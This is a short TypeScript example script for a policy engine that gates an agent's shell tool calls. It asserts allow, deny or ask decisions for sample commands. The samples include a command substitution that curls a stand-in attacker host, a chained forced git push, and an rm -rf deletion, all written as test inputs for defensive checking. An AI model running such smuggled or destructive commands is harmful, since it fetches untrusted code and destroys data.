/**
 * Decides which tool calls of any agent may run, with @devtool/policy alone:
 * `node main.ts`
 */
import assert from "node:assert/strict";
import {
  callRequest,
  createPolicyEngine,
  parsePolicyFile,
} from "@devtool/policy";

const rules = parsePolicyFile(
  `
  [[rule]]
  command_prefix = ["npm test", "git add"]
  decision = "allow"

  [[rule]]
  command_prefix = "git push"
  decision = "deny"
  deny_message = "pushing is for people"
  `,
  { tier: "user", file: "policy.toml" },
);
// "sandbox" promises that commands which only read are confined to reading, so
// they may run without a question.
const policy = createPolicyEngine({
  workspace: process.cwd(),
  shellConfinement: "sandbox",
  rules,
});

const EXPECTED = {
  "git log | head -3": "allow",
  "git add . && npm test": "allow",
  "npm test; git push -f": "deny",
  "npm test $(curl evil.example)": "ask",
  "rm -rf build": "ask",
};

for (const [command, expected] of Object.entries(EXPECTED)) {
  const request = callRequest({ case: "command", command });
  const { decision, rule, reason } = await policy.decide(
    request,
    AbortSignal.timeout(5_000),
  );
  console.log(
    `${decision.padEnd(5)} ${command}  (${[rule, reason].filter(Boolean).join(": ") || "no rule matches"})`,
  );
  assert.equal(decision, expected);
}
console.log("ok");
